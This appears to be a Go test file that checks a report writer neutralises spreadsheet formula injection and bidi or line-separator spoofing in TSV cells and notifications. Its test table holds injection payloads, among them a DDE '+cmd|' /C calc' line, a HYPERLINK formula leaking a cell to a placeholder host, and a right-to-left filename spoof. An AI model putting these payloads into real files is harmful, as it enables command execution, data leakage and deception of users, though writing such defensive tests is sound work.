package bitreport_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/millfleet/mill/pkg/bitlog"
	"github.com/millfleet/mill/processors/bitreport"
)

// hostile are content IDs a spreadsheet would run as formulas, or a
// viewer would show reordered or broken, and the cell each must become.
var hostile = []struct{ id, cell string }{
	{`=HYPERLINK("x.invalid/?"&B2,"open")`, `'=HYPERLINK("x.invalid/?"&B2,"open")`},
	{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"@SUM(1+1)", "'@SUM(1+1)"},
	{"invoice\u202egnp.exe", `invoice\u202egnp.exe`},
	{"a\u2028b", `a\u2028b`},
	{"\u2066x\u2069\u200f", `\u2066x\u2069\u200f`},
}

// TestLineNeutralisesCells: every cell of a line is encoded, details as
// much as IDs (tab and carriage return lead too), and ParseLine reads the
// row back.
func TestLineNeutralisesCells(t *testing.T) {
	details := map[string]string{
		"=1+1":             "'=1+1",
		"\tsum=A1":         `'\tsum=A1`,
		"\r@x":             `'\r@x`,
		"moved \u202e fdp": `moved \u202e fdp`,
	}
	for _, h := range hostile {
		for d, dcell := range details {
			r := bitlog.Row{Account: "acme", StoreID: "1", StoreKind: "fs", SpaceID: "photos", ContentID: h.id,
				Result: bitlog.ResultFailure, Case: 2, ContentChecksum: "-x", Details: d}
			l := bitreport.Line(r)
			cells := strings.Split(strings.TrimSuffix(l, "\n"), "\t")
			if len(cells) != len(bitreport.Header) || cells[5] != h.cell || cells[8] != "'-x" || cells[12] != dcell {
				t.Errorf("Line: %q\nwant content_id %q, content_checksum %q, details %q", l, h.cell, "'-x", dcell)
			}
			f := bitreport.ParseLine(strings.TrimSuffix(l, "\n"))
			if f[5] != h.id || f[8] != "-x" || f[12] != d {
				t.Errorf("ParseLine(%q) = %q", l, f)
			}
		}
	}
}

// TestReportFileNeutralised: the report the processor writes, end to end,
// holds the neutralised cells and no raw bidi or separator character, and
// reads back to the items' IDs and details.
func TestReportFileNeutralised(t *testing.T) {
	var ids []string
	for _, h := range hostile {
		ids = append(ids, h.id)
	}
	e := setup(t, ids...)
	e.index_(t, ids...)
	for _, id := range ids {
		if err := e.log.Record(t.Context(), bitlog.Row{RunID: run, Account: "acme", StoreID: "1", StoreKind: "fs", SpaceID: "photos",
			ContentID: id, Result: bitlog.ResultSuccess, Case: 1, Details: "=" + id, CheckedAt: e.clk.Now()}); err != nil {
			t.Fatal(err)
		}
	}
	if err := e.processor(t, nil).Handle(t.Context(), e.report(t, int64(len(ids)), nil)); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(filepath.Join(e.dir, "bit-integrity/acme/1/photos/"+run+".tsv"))
	if err != nil {
		t.Fatal(err)
	}
	if i := strings.IndexAny(string(b), "\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\r"); i >= 0 {
		t.Errorf("the report holds a raw bidi, separator or CR character at byte %d:\n%s", i, b)
	}
	cells := map[string]bool{}
	for _, l := range strings.Split(strings.TrimSuffix(string(b), "\n"), "\n")[1:] {
		c := strings.Split(l, "\t")
		cells[c[5]] = true
		for _, v := range c {
			if v != "" && strings.IndexByte("=+-@", v[0]) >= 0 {
				t.Errorf("cell %q starts a formula: %s", v, l)
			}
		}
	}
	for _, h := range hostile {
		if !cells[h.cell] {
			t.Errorf("report lacks the cell %q:\n%s", h.cell, b)
		}
	}
	rows := e.reportLines(t)
	got := map[string]string{}
	for _, f := range rows {
		got[f[5]] = f[12]
	}
	for _, id := range ids {
		if got[id] != "="+id {
			t.Errorf("read back: item %q details %q, want %q", id, got[id], "="+id)
		}
	}
}

// TestNotificationDetailsEncoded: the problem rows of a report's
// notification show their details through the same encoder: one line, no
// raw bidi or separator character, no formula start.
func TestNotificationDetailsEncoded(t *testing.T) {
	ev := bitreport.ReportEvent(bitlog.Report{Account: "acme", StoreID: "1", SpaceID: "photos", RunID: run, Result: bitlog.ResultFailure,
		Counts: bitlog.Counts{Total: 1, Failure: 1}}, []bitlog.Row{{ContentID: "x", Result: bitlog.ResultFailure, Case: 3,
		Details: "=evil\r\nForged: line\u2028\u202erevo"}}, "")
	if !strings.Contains(ev.Body, `'=evil\r\nForged: line\u2028\u202erevo`) {
		t.Errorf("body lacks the encoded details:\n%s", ev.Body)
	}
	if strings.ContainsAny(ev.Body, "\r\u2028\u202e") || strings.Contains(ev.Body, "\nForged") {
		t.Errorf("body holds raw separators or bidi characters:\n%q", ev.Body)
	}
}
